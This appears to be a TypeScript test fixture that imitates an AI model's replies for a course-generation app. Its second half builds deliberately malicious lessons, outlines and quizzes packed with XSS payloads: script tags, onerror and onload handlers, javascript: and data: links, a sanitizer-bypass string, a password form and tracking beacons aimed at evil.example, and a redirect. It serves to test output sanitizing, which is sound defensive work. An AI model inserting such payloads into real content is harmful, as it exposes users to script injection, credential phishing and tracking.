interface AskedOutline {
  topic: string;
  requestedSubtopics: string[];
  topicCount: number;
}

interface AskedLesson {
  course: string;
  subtopic: string;
  presentText?: string;
}

interface AskedQuiz {
  topic: string;
  lessons: { title: string }[];
  count: number;
  askedBefore: string[];
}

type Messages = { role: string; content: string }[];

type Purpose = 'outline' | 'lesson' | 'revision' | 'quiz' | 'answer';

export function purposeOf(messages: Messages): Purpose {
  const data = firstUserData(messages);
  if ('topicCount' in data) return 'outline';
  if ('askedBefore' in data) return 'quiz';
  if ('subtopic' in data) return 'presentText' in data ? 'revision' : 'lesson';
  return 'answer';
}

export function answerAsModel(messages: Messages): string {
  const data = firstUserData(messages);
  if ('topicCount' in data) return JSON.stringify(outlineFor(data as unknown as AskedOutline));
  if ('askedBefore' in data) return JSON.stringify(quizFor(data as unknown as AskedQuiz));
  if ('subtopic' in data) return lessonFor(data as unknown as AskedLesson);
  const { paragraphs = [] } = data as { paragraphs?: unknown[] };
  const cited = paragraphs.length > 0 ? ' [p1]' : '';
  return `A fair question. The first lesson of this course explains it${cited}; read its **second section** again.`;
}

function firstUserData(messages: Messages): Record<string, unknown> {
  try {
    return JSON.parse(messages.find(({ role }) => role === 'user')?.content ?? '{}') as Record<string, unknown>;
  } catch {
    return {};
  }
}

function outlineFor({ topic, requestedSubtopics, topicCount }: AskedOutline) {
  const aspects = ['Origins', 'Principles', 'Tools', 'Practice', 'Pitfalls', 'Applications', 'Outlook'];
  const topics = aspects.slice(0, topicCount).map((aspect) => ({
    title: `${aspect} of ${topic}`,
    subtopics: ['Background', 'Examples', 'Exercises'].map((part) => ({ title: `${part}: ${aspect.toLowerCase()}` })),
  }));
  for (const [index, title] of requestedSubtopics.entries()) topics[index % topicCount]?.subtopics.push({ title });
  return { topics };
}

function quizFor({ topic, lessons, count, askedBefore }: AskedQuiz) {
  const aspects = ['purpose', 'order', 'cost', 'history', 'danger', 'beauty', 'measure', 'limit', 'origin', 'name'];
  const questions = Array.from({ length: count }, (_, index) => {
    const number = askedBefore.length + index;
    const at = number % lessons.length;
    const aspect = `${aspects[number % aspects.length]}${number < aspects.length ? '' : ` number${number}`}`;
    return {
      lesson: at + 1,
      question: `What does “${lessons[at]?.title}” say about the ${aspect} of ${topic}?`,
      options: ['That it matters', 'That it does not exist', 'That it is unknown', 'That it is a colour'],
      correct: 0,
      explanation: `The lesson says that the ${aspect} matters.`,
    };
  });
  return { questions };
}

function lessonFor({ course, subtopic, presentText }: AskedLesson): string {
  const paragraph = `People who study ${course} meet ${subtopic} early, because much of what follows rests on it. It rewards patience: first the idea, then an example, and only after that the exceptions.`;
  const introduction = presentText === undefined ? [] : ['Here is the same lesson, in other words.'];
  return [
    ...introduction,
    paragraph,
    '### The idea',
    `${paragraph} Keep one question in mind while you read: **what would change without it?**`,
    '- start from something you can see\n- name its parts\n- say how they work together',
    '### An example',
    '| Step | What happens |\n| ---: | --- |\n| 1 | You look |\n| 2 | You compare |\n| 3 | You decide |',
    '```python\nfor step in ("look", "compare", "decide"):\n\n    print(step)\n```',
    'With $n$ steps there are this many pairs: $$\\binom{n}{2} = \\frac{n(n-1)}{2}$$',
    `${paragraph} Write your own version of the table before you go on.`,
    '### Key points',
    '- the idea comes first\n- examples test it\n- exceptions refine it',
  ].join('\n\n');
}

const SENTENCE =
  'People who study this topic meet the idea early, because much of what follows rests on it, and they return to it whenever a result surprises them. ';

const MALICIOUS_LESSON = [
  SENTENCE.repeat(3),
  '<script>document.title = "owned"</script>',
  '### The idea <img src=x onerror="document.title=\'owned\'">',
  `${SENTENCE.repeat(3)} <b onclick="document.title='owned'">Click</b> <a href="javascript:document.title='owned'">here</a> or [there](data:text/html,<script>alert(1)</script>).`,
  '![progress](https://evil.example/collect?course=secret)',
  '<iframe srcdoc="<script>top.document.title=\'owned\'</script>"></iframe><svg onload="document.title=\'owned\'"></svg>',
  '<style>body { background: url(https://evil.example/seen) }</style><p style="position:fixed;inset:0">covered</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input type="password" name="password"></form>',
  `$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$ ${SENTENCE.repeat(2)}`,
  '```html\n<script>alert("shown as code")</script>\n```',
  '### Key points',
  `- ${SENTENCE}\n- [a source](http://evil.example)\n- <meta http-equiv="refresh" content="0;url=https://evil.example">the end`,
].join('\n\n');

const TITLE = '<img src=x onerror="document.title=\'owned\'">';
const titles = ['Origins', 'Principles', 'Tools', 'Practice', 'Pitfalls', 'Applications', 'Outlook'];

export function maliciousAnswer(purpose: Purpose, topicCount = 4): string {
  if (purpose === 'outline') {
    const subtopics = ['Background', 'Examples', 'Exercises'].map((part) => ({ title: `${part} ${TITLE}` }));
    return JSON.stringify({
      topics: titles.slice(0, topicCount).map((title) => ({ title: `${title} <script>alert(1)</script>`, subtopics })),
    });
  }
  if (purpose !== 'quiz') return MALICIOUS_LESSON;
  const questions = titles.map((title) => ({
    lesson: 1,
    question: `What of ${title} ${TITLE}?`,
    options: ['right', 'wrong', 'worse', 'worst'].map((option) => `${option} <script>alert(1)</script>`),
    correct: 0,
    explanation: `It says so. ${TITLE}`,
  }));
  return JSON.stringify({ questions });
}
